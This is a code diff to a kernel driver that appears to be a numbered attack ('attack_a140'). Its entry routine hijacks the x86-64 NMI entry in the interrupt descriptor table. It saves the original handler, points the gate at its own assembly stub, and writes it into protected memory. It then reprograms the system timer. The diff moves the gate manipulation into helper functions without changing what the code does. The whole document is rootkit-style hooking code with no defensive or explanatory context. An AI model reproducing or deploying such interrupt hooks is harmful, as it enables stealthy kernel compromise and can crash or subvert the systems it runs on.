@@ -41,13 +41,6 @@ __asm__(".text\n.global attack_a140_stub\nattack_a140_stub:\n"
 	"\tiretq\n"
 	"2:\tcli\n\thlt\n\tjmp 2b\n");
 
-struct gate {
-	uint16_t off_lo, sel;
-	uint8_t ist, attr;
-	uint16_t off_mid;
-	uint32_t off_hi, reserved;
-} __attribute__((packed));
-
 static uint32_t parse_reload(const char *a)
 {
 	const char *p = a;
@@ -74,18 +67,10 @@ status_t driver_entry(struct driver_object *drv)
 	attack_a140_stopping = &pg->stopping;
 	attack_a140_ticks = a_find_tick_count();
 	{
-		struct {
-			uint16_t limit;
-			uint64_t base;
-		} __attribute__((packed)) idtr;
-		__asm__ volatile("sidt %0" : "=m"(idtr));
-		struct gate *g = (struct gate *)idtr.base + VEC_NMI;
+		struct gate *g = a_idt() + VEC_NMI;
 		struct gate ng = *g;
-		attack_a140_original = g->off_lo | (uint64_t)g->off_mid << 16 | (uint64_t)g->off_hi << 32;
-		uint64_t stub = (uint64_t)&attack_a140_stub;
-		ng.off_lo = stub & 0xFFFF;
-		ng.off_mid = (stub >> 16) & 0xFFFF;
-		ng.off_hi = stub >> 32;
+		attack_a140_original = a_gate_target(g);
+		a_gate_point(&ng, (uint64_t)&attack_a140_stub);
 		a_write_protected(g, &ng, sizeof ng);
 	}
 	a_outb(PIT_CMD, PIT_CH0_MODE2);
